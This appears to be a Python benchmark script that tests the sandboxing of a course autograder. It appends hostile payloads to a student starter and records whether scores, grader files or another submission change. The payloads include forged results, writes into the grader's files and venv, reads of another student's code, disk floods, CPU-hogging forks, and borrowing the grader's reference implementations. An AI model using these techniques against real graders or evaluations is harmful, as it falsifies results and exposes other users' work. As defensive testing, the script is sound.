"""Issue 36's payload matrix: the untouched course starter carrying each hostile payload, graded as root and as an
unprivileged user (a user namespace), one `python -m grading` run per payload.

    python bench/grading_payloads.py                                  # both modes, the real starter from /work/.mirror
    python bench/grading_payloads.py --modes root --only forge_results,hang_attention
    python bench/grading_payloads.py --user cloudsdk --out runs/grading_payloads.json

Each payload is code appended to the starter's files (or files added beside them), so it applies to the real
starter (the manifest's "starter", extracted from --mirror) and to the tests' synthetic one alike. For each payload
and mode the table gives the score against the untouched starter's (what it earns: the parts the course gives),
the exit code, whether the grader's files, its venv and another student's submission are byte for byte what they
were (sha256 of every file, before and after), the seconds, and what the payload's own output says it achieved.

Root mode runs the grader from this checkout with this Python. Non-root mode runs it as --user (default cloudsdk,
else nobody) from a copy of this checkout and a venv in /tmp that the user owns (its site-packages reach this
Python's through a .pth file), in a private mount namespace where the folders closed to that user above Python (a
pyenv in /root) are covered and only Python bound back: the grader's checkout, venv and the other submission all
belong to the grader's uid there, which is what a check running under that same uid must not be able to change.
tests/test_grading_payloads.py runs the same payloads in one warm grader per mode.
"""
from __future__ import annotations

import argparse
import hashlib
import importlib.util
import json
import marshal
import os
import pwd
import shutil
import subprocess
import sys
import tempfile
import time
from dataclasses import dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

from bench.machine import print_machine_header  # noqa: E402
from bench.results import Recorder  # noqa: E402

MARKER = "ANOTHER-STUDENTS-OWN-CODE-7f3a"  # in the other submission's attention.py; a payload that reads it prints LEAK

# ---- the payloads (code appended to a starter file; @OTHER@ is another student's submission folder) --------------

FRAME = '''
def _probe_frame(local):
    import sys
    f = sys._getframe(1)
    while f is not None and local not in f.f_locals:
        f = f.f_back
    return f
'''

FORGE_RESULTS = FRAME + '''
def _forge():  # issue 29: an "ok" result of its own for each check the starter leaves to do, then os._exit
    import json, os
    f = _probe_frame("resultdir")
    if f is None or f.f_locals.get("name") not in ("attention", "layer", "embed", "adamw"):
        return  # the course gives forward() and from_pretrained: those it leaves alone
    import torch
    from safetensors.torch import save
    B, T, D, H = 3, 7, 32, 4
    shapes = {"forward.nopad": (B, T, D), "forward.right": (B, T, D), "forward.left": (B, T, D), "add": (B, T, D),
              "attention.left": (B, T, D), "probs.eval": (B, H, T, T), "probs.train": (B, H, T, T),
              "train": (B, T, D), "embed": (B, T, D), "embed.train": (B, T, D), "course.weight": (2, 3),
              "torch.0.weight": (8, 4), "torch.0.bias": (8,), "torch.2.weight": (2, 8), "torch.2.bias": (2,)}
    with open(os.path.join(f.f_locals["resultdir"], "tensors.safetensors"), "wb") as out:
        out.write(save({k: torch.zeros(shape) for k, shape in shapes.items()}))
    with open(os.path.join(f.f_locals["resultdir"], "info.json"), "w") as out:
        json.dump({"status": "ok", "message": "", "notes": ["FORGED"], "values": {"probs_route": "attention()"}}, out)
    print("FORGED a result", flush=True)
    os._exit(0)


_forge()
'''

EDIT_GRADER = '''
def _edit_grader():  # issue 36: the grader's own files, its venv and another student's, found from the check
    import os, site, sys
    grading = os.path.dirname(os.path.abspath(sys.modules["__main__"].__file__))
    forged = {os.path.join(grading, "grader.py"): "\\nReport.total = property(lambda self: self.max_total)\\n",
              os.path.join(grading, "predictions.py"): "\\n# forged\\n",
              os.path.join(grading, "rubric.json"): " ",
              os.path.join(sys.prefix, "pyvenv.cfg"): "\\n# forged\\n",
              "@OTHER@/modules/attention.py": "\\n# forged\\n"}
    forged.update({os.path.join(p, "zz_forged.pth"): "import os\\n" for p in site.getsitepackages()})
    for path, text in forged.items():
        try:
            with open(path, "a") as f:
                f.write(text)
            print("WROTE", path, flush=True)
        except OSError as e:
            print("REFUSED", path, e.strerror, flush=True)


_edit_grader()
'''

MALFORMED_IMPORTS = FRAME + '''
def _malformed():  # issue 36: the imports probe's result with values.imports = "x" crashed the grader (exit 1)
    import json, os
    f = _probe_frame("resultdir")
    if f is not None and f.f_locals.get("name") == "imports":
        with open(os.path.join(f.f_locals["resultdir"], "info.json"), "w") as out:
            json.dump({"status": "ok", "message": "", "notes": [], "values": {"imports": "x"}}, out)
        os._exit(0)


_malformed()
'''

SKIP_PARTS = FRAME + '''
def _skip():  # issue 36: "training" declared skipped took it out of the maximum (98/98 instead of 98/100)
    f = _probe_frame("values")
    if f is not None and isinstance(f.f_locals["values"], dict):
        f.f_locals["values"].setdefault("parts", {})["training"] = "error: skipped: no dropout here"
        print("DECLARED training skipped", flush=True)


_skip()
'''

PRINTED_MISSING = '''
print("ModuleNotFoundError: No module named 'transformers'")  # issue 36: became a grader-side finding
print("No module named 'requests'", flush=True)
'''

RESULT_FLOOD = '''
def _flood():  # issue 36: 70 x 15 MiB into the result folder landed 1050 MiB on the grader's disk
    import os
    written = 0
    for i in range(70):
        try:
            with open(os.path.join("..", "result", f"flood-{os.getpid()}-{i}"), "wb") as f:
                f.write(b"0" * (15 << 20))
            written += 15
        except OSError as e:
            print("REFUSED", e.strerror, flush=True)
            break
    print(f"LEAK: wrote {written} MiB beside the result" if written else "wrote nothing", flush=True)


_flood()
'''

NEIGHBOURS = '''
def _neighbours():  # issue 36: a venv under /tmp exposed its parent, and another student's batch copy there
    import os, sys
    for folder in (os.path.dirname(sys.prefix), os.path.dirname("@OTHER@")):
        try:
            print("LISTED", folder, sorted(os.listdir(folder))[:12], flush=True)
        except OSError as e:
            print("REFUSED", folder, e.strerror, flush=True)
    try:
        text = open("@OTHER@/modules/attention.py").read()
        print("LEAK: read another student's code" if "@MARKER@" in text else "read a file", flush=True)
    except OSError as e:
        print("REFUSED", e.strerror, flush=True)


_neighbours()
'''

KEYRING = '''
def _key():  # issue 36: add_key("user", ...) was read by the next submission, and outlived the grader
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    r = libc.syscall(248, b"user", b"grading-payload-key", b"secret", 6, -4)  # add_key, KEY_SPEC_USER_KEYRING
    print("LEAK: a key was added" if r >= 0 else f"REFUSED add_key errno {ctypes.get_errno()}", flush=True)


if os.uname().machine == "x86_64":
    _key()
'''

HANG_ATTENTION = '''

def _hang(self, *args, **kwargs):  # issue 36: one infinite loop in attention() cost attention, layer, from_pretrained
    while True:
        pass


CausalSelfAttention.attention = _hang
'''

DROPOUT_EVERYTHING = '''
import torch as _torch


def _drop_all(self, x):  # issue 36: a dropout that drops everything got full marks for both training parts
    return x * 0 if self.training else x


_torch.nn.Dropout.forward = _drop_all
'''

CPU_HOG = '''
def _hog():  # issue 36: spinning processes in their own sessions slowed the neighbouring check
    import os, time
    for _ in range(@SPINNERS@):
        if os.fork() == 0:
            os.setsid()
            end = time.time() + @SECONDS@
            while time.time() < end:
                pass
            os._exit(0)


_hog()
'''

# The grader's own classes (issue 36, still open until the stand-ins moved out of the check): found through the fork
# server's modules, the probe's frames, the garbage collector, or the grader's files.
FIND = '''

def _grader_object(name):
    import gc, os, sys

    def in_modules():
        for mod in list(vars(sys.modules["__main__"]).values()) + list(sys.modules.values()):
            if name in getattr(mod, "__dict__", {}):
                return mod.__dict__[name]

    def in_frames():
        f = sys._getframe(1)
        while f is not None:
            if name in f.f_globals:
                return f.f_globals[name]
            f = f.f_back

    def in_gc():
        for o in gc.get_objects():
            try:
                if getattr(o, "__name__", None) == name and callable(o):
                    return o
                if isinstance(o, dict) and callable(o.get(name)):
                    return o[name]
            except Exception:  # objects whose attributes raise
                pass

    def in_files():
        here = os.path.dirname(os.path.abspath(sys.modules["__main__"].__file__))
        for folder in (here, os.path.join(os.path.dirname(here), "grading")):
            for f in sorted(os.listdir(folder)):
                text = open(os.path.join(folder, f)).read() if f.endswith(".py") else ""
                if f"class {name}(" in text or f"def {name}(" in text:
                    ns = {"__name__": "borrowed_" + f[:-3]}
                    exec(compile(text, f, "exec"), ns)
                    return ns[name]

    for way, look in (("sys.modules", in_modules), ("the probe's frames", in_frames), ("gc", in_gc),
                      ("the grader's files", in_files)):
        try:
            found = look()
        except Exception as e:
            print("LOOKED", name, "in", way, type(e).__name__, e, flush=True)
            found = None
        if found is not None:
            print("BORROWED", name, "via", way, flush=True)
            return found
    print("NOT FOUND", name, flush=True)
    raise NotImplementedError(f"{name}: not reachable")


def _standin(cls, w, *rest, heads):  # the stand-ins' signatures before issue 36 (no head count) and after
    import inspect
    return cls(w, *rest, heads) if "num_heads" in inspect.signature(cls).parameters else cls(w, *rest)
'''

GRADER_ATTENTION = '''

import torch as _torch
from utils import _grader_object, _standin


def _borrowed_attention(self, key, query, value, attention_mask):
    B, h, T, hd = query.shape
    D = h * hd
    x = _torch.cat([t.transpose(1, 2).reshape(B, T, D) for t in (query, key, value)], -1)
    pick = [_torch.cat([_torch.eye(D) if j == i else _torch.zeros(D, D) for j in range(3)], 1) for i in range(3)]
    w = {"query.weight": pick[0], "key.weight": pick[1], "value.weight": pick[2]}
    w.update({f"{n}.bias": _torch.zeros(D) for n in ("query", "key", "value")})
    return _standin(_grader_object("RefAttention"), w, heads=h)(x, attention_mask)


def _borrowed_forward(self, hidden_states, attention_mask):
    w = {f"{n}.{p}": getattr(getattr(self, n), p) for n in ("query", "key", "value") for p in ("weight", "bias")}
    return _standin(_grader_object("RefAttention"), w, heads=self.num_attention_heads)(hidden_states, attention_mask)


CausalSelfAttention.attention = _borrowed_attention
CausalSelfAttention.forward = _borrowed_forward
'''

KEEP_OWN_ATTENTION = '''

_course_init = GPT2Layer.__init__


def _init_keeping_attention(self, config):
    _course_init(self, config)
    self.__dict__["own_attention"] = self.self_attention  # the grader puts its weights there, then swaps it out


GPT2Layer.__init__ = _init_keeping_attention
del GPT2Layer.add  # graded through forward()
'''

GRADER_LAYER = KEEP_OWN_ATTENTION + '''
from utils import _grader_object, _standin


def _borrowed_layer(self, hidden_states, attention_mask):
    att = self.__dict__["own_attention"]
    names = ("attention_dense", "interm_dense", "out_dense", "attention_layer_norm", "out_layer_norm")
    w = {f"{n}.{p}": getattr(getattr(self, n), p) for n in names for p in ("weight", "bias")}
    w.update({f"self_attention.{n}.{p}": getattr(getattr(att, n), p) for n in ("query", "key", "value")
              for p in ("weight", "bias")})
    info = {"eps_attn": 1e-5, "eps_mlp": 1e-5, "activation": "exact"}
    return _standin(_grader_object("RefLayer"), w, info, heads=att.num_attention_heads)(hidden_states, attention_mask)


GPT2Layer.forward = _borrowed_layer
'''

GRADER_EMBED = '''

from utils import _grader_object


def _borrowed_embed(self, input_ids):
    return self.embed_dropout(_grader_object("ref_embed")(self)(input_ids))


GPT2Model.embed = _borrowed_embed
'''

HF_ATTENTION = '''

import torch as _torch
from transformers import GPT2Config as _HFConfig
from transformers.models.gpt2.modeling_gpt2 import GPT2Attention as _GPT2Attention


def _causal(T):
    return _torch.zeros(T, T).masked_fill(~_torch.ones(T, T, dtype=_torch.bool).tril(), float("-inf"))


def _hf_config(D, heads, inner, eps=1e-5):
    cfg = _HFConfig(n_embd=D, n_head=heads, n_inner=inner, attn_pdrop=0.0, resid_pdrop=0.0,
                    activation_function="gelu", layer_norm_epsilon=eps)
    cfg._attn_implementation = "eager"
    return cfg


def _hf_attention(self, hidden_states, attention_mask):
    D = self.all_head_size
    hf = _GPT2Attention(_hf_config(D, self.num_attention_heads, 4 * D)).eval()
    with _torch.no_grad():
        hf.c_attn.weight.copy_(_torch.cat([self.query.weight, self.key.weight, self.value.weight], 0).t())
        hf.c_attn.bias.copy_(_torch.cat([self.query.bias, self.key.bias, self.value.bias]))
        hf.c_proj.weight.copy_(_torch.eye(D))
        hf.c_proj.bias.zero_()
    return hf(hidden_states, attention_mask=attention_mask + _causal(hidden_states.shape[1]))[0]


CausalSelfAttention.forward = _hf_attention
del CausalSelfAttention.attention  # graded through forward()
'''

HF_LAYER = KEEP_OWN_ATTENTION + '''
import torch as _torch
from transformers.models.gpt2.modeling_gpt2 import GPT2Block as _GPT2Block

from modules.attention import _causal, _hf_config


def _hf_layer(self, hidden_states, attention_mask):
    att = self.__dict__["own_attention"]
    block = _GPT2Block(_hf_config(att.all_head_size, att.num_attention_heads, self.interm_dense.out_features,
                                  self.attention_layer_norm.eps)).eval()
    pairs = [(block.ln_1, self.attention_layer_norm), (block.ln_2, self.out_layer_norm)]
    with _torch.no_grad():
        for theirs, ours in pairs:
            theirs.weight.copy_(ours.weight)
            theirs.bias.copy_(ours.bias)
        block.attn.c_attn.weight.copy_(_torch.cat([att.query.weight, att.key.weight, att.value.weight], 0).t())
        block.attn.c_attn.bias.copy_(_torch.cat([att.query.bias, att.key.bias, att.value.bias]))
        for theirs, ours in ((block.attn.c_proj, self.attention_dense), (block.mlp.c_fc, self.interm_dense),
                             (block.mlp.c_proj, self.out_dense)):
            theirs.weight.copy_(ours.weight.t())
            theirs.bias.copy_(ours.bias)
    out = block(hidden_states, attention_mask=attention_mask + _causal(hidden_states.shape[1]))
    return out[0] if isinstance(out, tuple) else out


GPT2Layer.forward = _hf_layer
'''

FORBIDDEN_CALLS = {"attention": ["torch.nn.functional.scaled_dot_product_attention", "torch.nn.MultiheadAttention"],
                   "*": ["transformers.models.gpt2.modeling_gpt2.*"]}  # docs/grading.md's example rubric option


def many_files(sub: Path, count: int = 30000) -> None:
    """Issue 36: 30,000 one-byte files beside the code took 562 s to grade (each check copied and scanned them)."""
    from bench.grading_batch_attacks import names

    folder = sub / "aaa_dump"  # listed before models/ and modules/
    folder.mkdir()
    names(folder, [f"f{i:05d}.txt" for i in range(count)])


def links_out(sub: Path, other: Path) -> None:
    """Issue 36: model files that were absolute links into another student's folder scored as the submission's."""
    (sub / "optimizer.py").unlink()
    (sub / "optimizer.py").symlink_to(other / "optimizer.py")


@dataclass
class Payload:
    what: str
    append: dict = field(default_factory=dict)  # starter file -> code appended to it
    setup: object = None  # fn(submission, other) for payloads that add files or links
    rubric: str = "default"  # or "forbidden": the rubric with docs/grading.md's forbidden_calls
    gain: int = 0  # points over the untouched starter it is expected to earn (only where the code it adds is right)
    leaks: tuple = ("LEAK", "WROTE /", "BORROWED")  # lines of its output that say it got through


PAYLOADS = {
    "none": Payload("the untouched starter"),
    "forge_results": Payload("issue 29: a forged 'ok' result for every check, then os._exit", {"utils.py": FORGE_RESULTS}),
    "edit_grader": Payload("the grader's files, venv and another submission, found from __main__.__file__",
                           {"utils.py": EDIT_GRADER}),
    "malformed_imports": Payload("imports result values.imports = 'x', then os._exit", {"utils.py": MALFORMED_IMPORTS}),
    "skip_parts": Payload("declares the training parts skipped", {"utils.py": SKIP_PARTS}),
    "printed_missing_package": Payload("prints 'No module named ...'", {"utils.py": PRINTED_MISSING}),
    "result_flood": Payload("70 x 15 MiB into the result folder", {"utils.py": RESULT_FLOOD}),
    "neighbours": Payload("lists the venv's parent, reads another submission", {"utils.py": NEIGHBOURS}),
    "keyring": Payload("add_key on the user keyring", {"utils.py": KEYRING}),
    "many_files": Payload("30,000 one-byte files", setup=many_files),
    "hang_attention": Payload("an infinite loop in attention()", {"modules/attention.py": HANG_ATTENTION}),
    "dropout_everything": Payload("nn.Dropout multiplies by 0 in training", {"utils.py": DROPOUT_EVERYTHING}),
    "links_out": Payload("optimizer.py an absolute link to another student's", setup=links_out),
    "cpu_hog": Payload("58 spinning processes in their own sessions", {"utils.py": CPU_HOG}),
    "grader_classes": Payload("attention, layer, embed() delegate to the grader's stand-ins",
                              {"utils.py": FIND, "modules/attention.py": GRADER_ATTENTION,
                               "modules/gpt2_layer.py": GRADER_LAYER, "models/gpt2.py": GRADER_EMBED}),
    "hf_blocks": Payload("attention and layer delegate to transformers' GPT2Attention / GPT2Block (default rubric)",
                         {"modules/attention.py": HF_ATTENTION, "modules/gpt2_layer.py": HF_LAYER}, gain=24,
                         leaks=("LEAK",)),
    "hf_blocks_forbidden": Payload("the same, with the rubric's forbidden_calls",
                                   {"modules/attention.py": HF_ATTENTION, "modules/gpt2_layer.py": HF_LAYER},
                                   rubric="forbidden", leaks=("LEAK",)),
}


def make(name: str, starter: Path, dest: Path, other: Path, spinners: int = 58, spin_s: float = 2.0) -> Path:
    """The starter carrying payload `name`, written to `dest`."""
    payload = PAYLOADS[name]
    shutil.copytree(starter, dest, symlinks=True)
    for rel, code in payload.append.items():
        code = code.replace("@OTHER@", str(other)).replace("@MARKER@", MARKER)
        code = code.replace("@SPINNERS@", str(spinners)).replace("@SECONDS@", str(spin_s))
        with open(dest / rel, "a") as f:
            f.write("\nimport os\n" + code)
    if payload.setup is many_files:
        many_files(dest)
    elif payload.setup is not None:
        payload.setup(dest, other)
    return dest


def other_submission(dest: Path) -> Path:
    """Another student's correct submission, its attention.py carrying MARKER."""
    from grading.example import write_submission

    return write_submission(dest, attention=[("import math\n", f"import math\n# {MARKER}\n")])


def synthetic_starter(dest: Path) -> Path:
    """The tests' stand-in for the course's starter: grading/example.py with the starter's TODOs."""
    sys.path.insert(0, str(ROOT / "tests"))
    from test_grading import STARTER

    from grading.example import write_submission

    return write_submission(dest, **STARTER)


def real_starter(mirror: Path, dest: Path) -> Path | None:
    """The course's starter as handed out (bench/grading_real_manifest.json's "starter"), from its git mirror."""
    from bench.grading_real import extract

    entry = json.loads((ROOT / "bench" / "grading_real_manifest.json").read_text())["starter"]
    if not (mirror / entry["repo"].replace("/", "+") / "repo").is_dir():
        return None
    return extract(mirror, entry, dest)


def tree_state(folders, content: bool = True, skip=(".git", "runs")) -> dict:
    """Every regular file under `folders` (caches included: the grader runs with PYTHONDONTWRITEBYTECODE, so a new
    .pyc is someone else's), by path: its sha256 (content=True), or its size, mtime and ctime (content=False: any
    write, chmod or utime changes the ctime, and a venv of 30,000 files is stat'ed in a second but hashed in 15)."""
    out = {}
    for folder in folders:
        walk = os.walk(folder) if os.path.isdir(folder) else [(os.path.dirname(folder), [], [os.path.basename(folder)])]
        for root, dirs, names in walk:
            dirs[:] = [d for d in dirs if d not in skip]
            for name in names + [d for d in dirs if os.path.islink(os.path.join(root, d))]:
                path = os.path.join(root, name)
                if os.path.islink(path):
                    out[path] = "link:" + os.readlink(path)
                elif not os.path.isfile(path):  # gone, or not a regular file
                    continue
                elif not content:
                    st = os.stat(path)
                    out[path] = (st.st_size, st.st_mtime_ns, st.st_ctime_ns)
                else:
                    h = hashlib.sha256()
                    with open(path, "rb") as f:
                        for block in iter(lambda: f.read(1 << 20), b""):
                            h.update(block)
                    out[path] = h.hexdigest()
    return out


def grader_files(checkout: Path) -> list[Path]:
    """The grader's own files: what `python -m grading package` ships (grading/, models/, modules/, tasks/, ...)."""
    from grading.gradescope import SOURCES

    return [checkout / name for name in SOURCES]


def faithful_bytecode(path: str) -> bool:
    """True for a cache file that Python itself would have written: `__pycache__/<name>.<tag>[.opt-N].pyc` beside its
    source, whose header matches that source as it is now (its mtime and size, or its hash) and whose code is exactly
    what compiling the source gives. A venv installed without bytecode (`pip install --no-compile`, uv's default, an
    image's) gets such files from any process that imports from it (the test run's own workers): they change nothing
    that runs. A planted .pyc (other code, another header, no source) is not one."""
    p = Path(path)
    if p.parent.name != "__pycache__" or p.suffix != ".pyc":
        return False
    try:
        source = importlib.util.source_from_cache(path)
        data, text, st = p.read_bytes(), Path(source).read_bytes(), os.stat(source)
    except (ValueError, OSError):
        return False
    if len(data) < 16 or data[:4] != importlib.util.MAGIC_NUMBER:
        return False
    flags = int.from_bytes(data[4:8], "little")  # 0: stamped with the source's mtime and size; 1, 3: its hash
    if flags == 0:
        header = (int(st.st_mtime) & 0xFFFFFFFF).to_bytes(4, "little") + (st.st_size & 0xFFFFFFFF).to_bytes(4, "little")
    else:
        header = importlib.util.source_hash(text) if flags in (1, 3) else None
    if data[8:16] != header:
        return False
    level = next((part[4:] for part in p.name.split(".")[1:-1] if part.startswith("opt-")), "")
    try:
        return marshal.loads(data[16:]) == compile(text, source, "exec", dont_inherit=True, optimize=int(level or 0))
    except (ValueError, TypeError, EOFError, SyntaxError):
        return False


def changed(before: dict, after: dict, bytecode_ok: bool = False) -> list[str]:
    """The paths whose entry differs; with bytecode_ok, less the cache files faithful_bytecode accepts (a venv's)."""
    paths = (k for k in before.keys() | after.keys() if before.get(k) != after.get(k))
    return sorted(k for k in paths if not (bytecode_ok and faithful_bytecode(k)))


def forbidden_rubric(path: Path) -> Path:
    from grading.grader import DEFAULT_RUBRIC

    rubric = json.loads(DEFAULT_RUBRIC.read_text())
    rubric["forbidden_calls"] = FORBIDDEN_CALLS
    path.write_text(json.dumps(rubric, indent=1))
    return path


# ---- running the grader in each mode ------------------------------------------------------------------------------

def grader_user(name: str | None) -> pwd.struct_passwd:
    for candidate in ([name] if name else ["cloudsdk", "nobody"]):
        try:
            return pwd.getpwnam(candidate)
        except KeyError:
            continue
    raise SystemExit(f"no such user: {name or 'cloudsdk or nobody'}")


def as_user(user: pwd.struct_passwd, stage: Path) -> list[str]:
    """A command prefix: the user, in a private mount namespace where the folders closed to it above Python (a pyenv
    in /root) are covered and only Python bound back (tests/test_grading_hostile.py; `stage` a new folder each)."""
    sys.path.insert(0, str(ROOT / "tests"))
    from test_grading_hostile import exposing_python

    stage.mkdir()
    return exposing_python(stage, f"setpriv --reuid={user.pw_uid} --regid={user.pw_gid} --clear-groups "
                                  f"--inh-caps=-all --bounding-set=-all")


def nonroot_setup(base: Path, checkout: Path, user: pwd.struct_passwd) -> tuple[Path, Path]:
    """A copy of this checkout at `checkout` (outside /tmp, so the check must hide it itself) and a venv in `base`
    (in /tmp), both the user's: (checkout, python)."""
    files = subprocess.run(["git", "ls-files", "-co", "--exclude-standard"], cwd=ROOT, capture_output=True, text=True,
                           check=True).stdout.splitlines()
    for rel in files:
        if (ROOT / rel).is_file():
            (checkout / rel).parent.mkdir(parents=True, exist_ok=True)
            shutil.copy2(ROOT / rel, checkout / rel)
    venv = base / "venv"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True)
    site = subprocess.run([str(venv / "bin" / "python"), "-c", "import site; print(site.getsitepackages()[0])"],
                          capture_output=True, text=True, check=True).stdout.strip()
    import site as this_site
    (Path(site) / "outer.pth").write_text("".join(p + "\n" for p in this_site.getsitepackages()))
    subprocess.run(["chown", "-R", f"{user.pw_uid}:{user.pw_gid}", str(base), str(checkout)], check=True)
    os.chmod(base, 0o755)
    return checkout, venv / "bin" / "python"


def run_matrix(mode: str, names: list[str], starter: Path, base: Path, user, timeout: float,
               copy: Path | None = None) -> list[dict]:
    base.mkdir(parents=True)
    if mode == "root":
        checkout, python, venv = ROOT, Path(sys.executable), [Path(sys.prefix)]
    else:  # a copy of the checkout, its own venv in /tmp, and the site-packages it reaches through its .pth
        checkout, python = nonroot_setup(base, copy, user)
        venv = [python.parent.parent, Path(sys.prefix)]
    subs, out = base / "subs", base / "out"
    subs.mkdir()
    out.mkdir()
    other = other_submission(subs / "other")
    rubric = forbidden_rubric(base / "forbidden.json")
    made = {name: make(name, starter, subs / name, other) for name in names}
    if mode != "root":
        subprocess.run(["chown", "-R", f"{user.pw_uid}:{user.pw_gid}", str(subs), str(out), str(rubric)], check=True)
    full = {"grader": tree_state(grader_files(checkout)), "venv": tree_state(venv)}
    rows = []

    def state():
        return {"grader": tree_state(grader_files(checkout)), "other": tree_state([other]),
                "venv": tree_state(venv, content=False)}
    for name in names:
        before = state()
        report = out / f"{name}.json"
        prefix = [] if mode == "root" else as_user(user, base / f"ns-{name}")
        cmd = [*prefix, str(python), "-m", "grading", str(made[name]), "--json", str(report), "--timeout", str(timeout)]
        if PAYLOADS[name].rubric == "forbidden":
            cmd += ["--rubric", str(rubric)]
        start = time.monotonic()
        proc = subprocess.run(cmd, cwd=checkout, capture_output=True, text=True, timeout=900,
                              env={"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(base),
                                   "HF_HUB_OFFLINE": "1", "PYTHONDONTWRITEBYTECODE": "1"})
        seconds = time.monotonic() - start
        after = state()
        data = json.loads(report.read_text()) if report.is_file() else {}
        achieved = sorted({f"{c['name']}: {line.strip()[:110]}" for c in data.get("checks", [])
                           for line in c.get("output", "").splitlines() if line.startswith(PAYLOADS[name].leaks)})
        findings = [m for c in data.get("checks", []) for m in c.get("messages", []) if m.startswith("finding")]
        rows.append({"payload": name, "mode": mode, "score": data.get("score"), "max": data.get("max_score"),
                     "exit": proc.returncode, "seconds": round(seconds, 1),
                     "changed": {k: changed(before[k], after[k], bytecode_ok=k == "venv") for k in before},
                     "achieved": achieved,
                     "environment": data.get("environment", []), "findings": findings[:6],
                     "sandbox": {k: data.get("sandbox", {}).get(k) for k in ("uid", "read_only", "grader_code",
                                                                              "user_namespace")},
                     "stderr": proc.stderr[-1500:] if proc.returncode else ""})
        r = rows[-1]
        print(f"  {mode:<8}{name:<24}{r['score']!s:>5}/{r['max']!s:<5} exit {r['exit']}  {r['seconds']:5.1f} s  "
              f"changed: {sum(map(len, r['changed'].values()))}  {'; '.join(r['achieved'])[:80]}", flush=True)
    end = {"grader": tree_state(grader_files(checkout)), "venv": tree_state(venv)}
    rows.append({"payload": "(whole run)", "mode": mode,
                 "changed": {k: changed(full[k], end[k], bytecode_ok=k == "venv") for k in full},
                 "files": {k: len(v) for k, v in full.items()}})
    return rows


def table(rows: list[dict], baseline: dict) -> str:
    lines = ["| payload | mode | score | expected | exit | grader files | venv | other submission | s | what it "
             "achieved |", "|---|---|---|---|---|---|---|---|---|---|"]
    for r in rows:
        if r["payload"] == "(whole run)":
            continue
        want = baseline.get(r["mode"], 0) + PAYLOADS[r["payload"]].gain
        same = {k: "same" if not v else f"{len(v)} changed" for k, v in r["changed"].items()}
        score = f"{r['score']:g}/{r['max']:g}" if r["score"] is not None else "no report"
        lines.append(f"| {r['payload']} | {r['mode']} | {score} | {want:g} | {r['exit']} | "
                     f"{same['grader']} | {same['venv']} | {same['other']} | {r['seconds']:.1f} | "
                     f"{'; '.join(r['achieved'])[:100] or '-'} |")
    return "\n".join(lines)


def main(argv=None) -> int:
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--modes", default="root,nonroot", help="root, nonroot or both (comma-separated)")
    p.add_argument("--only", default="", help="comma-separated payloads (default: all)")
    p.add_argument("--mirror", default="/work/.mirror", help="git mirrors (owner+name/repo) holding the real starter")
    p.add_argument("--synthetic", action="store_true", help="the tests' synthetic starter even where the real one is")
    p.add_argument("--user", default=None, help="the unprivileged user of non-root mode (default cloudsdk, else nobody)")
    p.add_argument("--timeout", type=float, default=20.0, help="--timeout per check given to the grader (default 20)")
    p.add_argument("--out", default=str(ROOT / "runs" / "grading_payloads.json"), help="where the JSON result goes")
    args = p.parse_args(argv)
    print_machine_header()
    if os.geteuid() != 0:
        print("error: run as root (root mode grades as root; non-root mode switches to --user)", file=sys.stderr)
        return 2
    names = [n for n in PAYLOADS if not args.only or n in args.only.split(",")]
    if "none" not in names:
        names.insert(0, "none")
    user = grader_user(args.user)
    work = Path(tempfile.mkdtemp(prefix="grading-payloads-"))
    os.chmod(work, 0o711)  # the non-root grader passes through to its own folder; nobody lists this one
    try:
        starter = None if args.synthetic else real_starter(Path(args.mirror), work / "starter")
        kind = "the course's starter (manifest 'starter')" if starter else "the tests' synthetic starter"
        starter = starter or synthetic_starter(work / "starter")
        commit = subprocess.run(["git", "rev-parse", "--short", "HEAD"], cwd=ROOT, capture_output=True,
                                text=True).stdout.strip()
        dirty = subprocess.run(["git", "status", "--porcelain", "--untracked-files=no"], cwd=ROOT, capture_output=True,
                               text=True).stdout.strip()
        print(f"commit {commit}{' (with uncommitted changes)' if dirty else ''}; {kind}; non-root user "
              f"{user.pw_name} ({user.pw_uid}); --timeout {args.timeout:g}", flush=True)
        rows, copy = [], ROOT / "runs" / f"payloads-{os.getpid()}"  # runs/ is git-ignored
        copy.parent.mkdir(exist_ok=True)
        try:
            for mode in args.modes.split(","):
                rows += run_matrix(mode, names, starter, work / mode, user, args.timeout, copy / "checkout")
        finally:
            shutil.rmtree(copy, ignore_errors=True)
        baseline = {r["mode"]: r["score"] for r in rows if r["payload"] == "none"}
        print("\n" + table(rows, baseline))
        for r in rows:
            if r["payload"] == "(whole run)":
                print(f"{r['mode']}: every file of the grader ({r['files']['grader']}) and its venv "
                      f"({r['files']['venv']}) before the first payload and after the last: "
                      + ", ".join(f"{k} {'same' if not v else str(len(v)) + ' changed'}" for k, v in r["changed"].items()))
            elif r["exit"] or r["score"] != baseline.get(r["mode"], 0) + PAYLOADS[r["payload"]].gain \
                    or any(r["changed"].values()) or r["achieved"]:
                print(f"NOTE {r['mode']} {r['payload']}: {json.dumps({k: r[k] for k in ('exit', 'score', 'changed', 'achieved', 'findings', 'stderr')})[:1500]}")
        rec = Recorder("grading_payloads")
        for mode in dict.fromkeys(r["mode"] for r in rows):
            graded = [r for r in rows if r["mode"] == mode and r["payload"] != "(whole run)"]
            held = [r for r in graded if not r["exit"] and not any(r["changed"].values()) and not r["achieved"]
                    and r["score"] == baseline.get(mode, 0) + PAYLOADS[r["payload"]].gain]
            rec.add(f"payloads on {kind.split(' (')[0]}, {mode}", {"payloads": len(graded), "held": len(held),
                    "starter's score": baseline.get(mode) or 0}, "payloads", ratio=len(held) / max(len(graded), 1),
                    ratio_of="share of payloads that changed no score, file or exit code",
                    notes="; ".join(r["payload"] for r in graded if r not in held) or None)
        rec.write()
        Path(args.out).parent.mkdir(parents=True, exist_ok=True)
        Path(args.out).write_text(json.dumps({"commit": commit, "starter": kind, "rows": rows}, indent=1) + "\n")
        print(f"wrote {args.out}")
    finally:
        subprocess.run(["rm", "-rf", str(work)])
    return 0


if __name__ == "__main__":
    sys.exit(main())
